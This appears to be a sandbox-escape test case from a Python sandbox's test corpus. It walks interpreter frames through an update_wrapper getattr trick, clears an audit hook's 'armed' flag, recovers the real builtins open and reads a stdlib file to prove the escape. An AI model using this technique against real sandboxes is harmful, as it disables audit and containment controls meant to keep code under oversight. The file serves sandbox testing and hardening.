# technique: from a frame above the snippet, rebind what the runtime layer relies on (its audit state's 'armed' flag, reached through the runner's frame locals) and then use the real builtins' open on a stdlib file
# source: sandbox design flaw class: Python-level audit hooks whose state is reachable from the sandboxed code
# note: the disarming step applies to a sandbox's Python audit hook state; in plain CPython only the open step runs

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import dataclasses, functools


class S(str):
    """A str whose equality says yes to anything: the name checks of the
    update_wrapper guard compare names with ==."""
    def __eq__(self, other):
        return True

    def __hash__(self):
        return str.__hash__(self)


got = []


def cap(self, k, v):
    got.append(v)

Sink = dataclasses.make_dataclass('Sink', [], namespace={dn('setattr'): cap})


def ga(obj, name):
    """getattr(obj, name) through functools.update_wrapper."""
    got.clear()
    functools.update_wrapper(Sink(), obj, assigned=(S(name),), updated=())
    if not got:
        raise AttributeError(name)
    return got[0]


def runner_frames():
    holder = []

    def gen():
        fr = ga(holder[0], 'gi_frame')
        out = []
        while fr is not None:
            out.append(fr)
            fr = ga(fr, 'f_back')
        yield out
    g = gen()
    holder.append(g)
    return next(g)


def via():
    real_open = None
    for fr in runner_frames():
        loc = ga(fr, 'f_locals')
        for k, v in list(loc.items()):
            if type(v).__name__ == '_Audit':
                v.armed = False
        b = ga(fr, 'f_builtins')
        if 'open' in b:
            real_open = b['open']
    if real_open is None:
        raise LookupError('no frame with the real open')
    mod = json_file()
    with real_open(mod) as fh:
        first = fh.readline()
    print('ESCAPED real open read', mod, '->', first.strip()[:60])
    return real_open


def json_file():
    import json
    return ga(ga(json.dumps, dn('code')), 'co_filename')

attempt('disarm + real open', via)
